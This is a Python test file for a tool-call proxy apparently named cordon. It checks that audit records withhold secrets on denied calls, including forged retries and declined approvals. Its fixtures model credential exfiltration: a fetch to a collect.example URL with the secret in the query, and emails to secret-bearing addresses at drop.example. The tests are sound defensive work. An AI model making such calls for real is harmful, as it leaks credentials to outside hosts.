"""No audit record keeps a secret a call carried: not its arguments, not the destinations
found in them, not a reason or parameter naming them; also on the paths that deny a call
without deciding it (a 2026-07-28 retry with a forged or expired state, a person's "no").

A real engine session behind the sans-I/O core (:class:`cordon.proxy.memory.MemoryTransport`);
the review pack is built from these records (tests/e2e/test_shared_secrets_proxy.py builds
one through the real processes)."""

from __future__ import annotations

import json
from typing import Any

import orjson

from cordon._types import Verdict
from cordon.approvals import envelope
from cordon.audit.withheld import withhold_verdict
from cordon.decider import Decider, verdict_record
from cordon.engine.core import Engine
from cordon.engine.secrets import withheld_marker
from cordon.proxy.core import CoreConfig, ProxyCore
from cordon.proxy.memory import MemoryTransport
from cordon.proxy.work import SessionWork

SECRET = "hunter2-Correct-Horse-77"
TOOLS = ("send_email", "fetch", "echo")
_VERSION = "io.modelcontextprotocol/protocolVersion"
_CAPS = "io.modelcontextprotocol/clientCapabilities"


def _transport() -> tuple[MemoryTransport, Any]:
    engine = Engine.from_policy([{"version": 1}], secrets=[SECRET])
    session = engine.new_session()
    work = SessionWork(
        engine=engine, session=session, server="mail", decider=Decider(session, server="mail")
    )
    work.pin_list([{"name": t, "inputSchema": {"type": "object"}} for t in TOOLS], True)
    core = ProxyCore(CoreConfig(server="mail", session_id="sid"), work, clock=lambda: 0.0)
    return MemoryTransport(core), session


def _modern_call(id_: Any, tool: str, args: dict[str, Any], **extra: Any) -> dict[str, Any]:
    meta = {_VERSION: "2026-07-28", _CAPS: {"elicitation": {}}}
    params = {"name": tool, "arguments": args, "_meta": meta, **extra}
    return {"jsonrpc": "2.0", "id": id_, "method": "tools/call", "params": params}


def _dump(records: list[dict[str, Any]]) -> str:
    return json.dumps(records, ensure_ascii=False).casefold()


def test_a_forged_retry_carrying_a_secret_is_denied_and_recorded_withheld() -> None:
    t, _ = _transport()
    forged = envelope.PREFIX + "not-a-real-state.x"
    args = {"to": "ops@example.com", "body": f"pw {SECRET}"}
    t.from_client(_modern_call(1, "send_email", args, requestState=forged))
    assert t.sent_upstream == []
    (rec,) = [r for r in t.audit if r.get("kind") == "verdict"]
    assert rec["rule"] == "approval.invalid_state"
    assert rec["arguments"]["to"] == "ops@example.com"
    assert rec["arguments"]["body"].startswith("[withheld: secret ")
    assert SECRET.casefold() not in _dump(t.audit)
    assert "approval.invalid_state" in t.client[0].decode()


def test_a_declined_retry_whose_call_carries_a_secret_learnt_since_is_withheld() -> None:
    """Asked about (an unknown recipient), then the value turns out to be a credential
    (registered after the question went out), then the person says no: the deny record and
    the approval record keep neither the value nor the destination it was sent to."""
    t, _ = _transport()
    value = "Zq8wLx3vKp9mRt2nBy"
    args = {"to": f"{value}@drop.example", "body": "hello"}
    t.from_client(_modern_call(1, "send_email", args))
    (ask,) = t.messages()
    state = ask["result"]["requestState"]
    t.feed(t.core.add_secret(value))
    declined = {envelope.INPUT_KEY: {"action": "decline"}}
    t.from_client(_modern_call(2, "send_email", args, requestState=state, inputResponses=declined))
    assert t.sent_upstream == []
    deny = [r for r in t.audit if r.get("kind") == "verdict" and r["verdict"] == "deny"]
    assert len(deny) == 1 and "did not approve" in deny[0]["reason"]
    assert value.casefold() not in _dump(deny)
    assert deny[0]["arguments"]["body"] == "hello"


def test_destinations_and_reasons_built_from_a_withheld_string_are_withheld() -> None:
    t, _ = _transport()
    url = f"https://collect.example/t?k={SECRET}"
    t.from_client(_modern_call(1, "fetch", {"url": url}))
    t.from_client(_modern_call(2, "send_email", {"to": f"{SECRET}@x.example", "body": "b"}))
    assert t.sent_upstream == []
    assert SECRET.casefold() not in _dump(t.audit)
    recs = [r for r in t.audit if r.get("kind") == "verdict"]
    assert all(r["rule"] == "secret.egress" for r in recs)
    assert all(d.startswith("[withheld: destination sha256:") for d in recs[0]["destinations"])


def test_withhold_verdict_keeps_what_a_kept_string_shows() -> None:
    raw = {"to": "ops@example.com", "url": f"https://c.example/?q={SECRET}"}
    shown = {"to": "ops@example.com", "url": withheld_marker("secret x", SECRET)}
    key = f"c.example/?q={SECRET.casefold()}"
    v = Verdict(
        verdict="deny",
        rule="taint.seen_in_output",
        reason=f"'{key}' was seen in output; ops@example.com is fine",
        param="url",
        destination=key,
        destinations=("ops@example.com", key),
        details={"dests": [key]},
    )
    out = withhold_verdict(v, raw, shown)
    assert out.destinations[0] == "ops@example.com"
    assert out.destination == out.destinations[1] == withheld_marker("destination", key)
    assert SECRET.casefold() not in repr(out).casefold()
    assert "ops@example.com is fine" in out.reason and out.param == "url"
    assert withhold_verdict(v, raw, raw) is v  # nothing withheld: unchanged


def test_the_library_record_withholds_destinations_too() -> None:
    engine = Engine.from_policy([{"version": 1}], secrets=[SECRET])
    session = engine.new_session()
    v = Verdict(
        verdict="deny",
        rule="secret.egress",
        reason="x",
        destinations=(f"{SECRET.casefold()}@x.example",),
    )
    rec = verdict_record(
        v,
        session="s",
        server="mail",
        tool="send_email",
        arguments={"to": f"{SECRET}@x.example"},
        known=session,
    )
    assert SECRET.casefold() not in orjson.dumps(rec).decode().casefold()
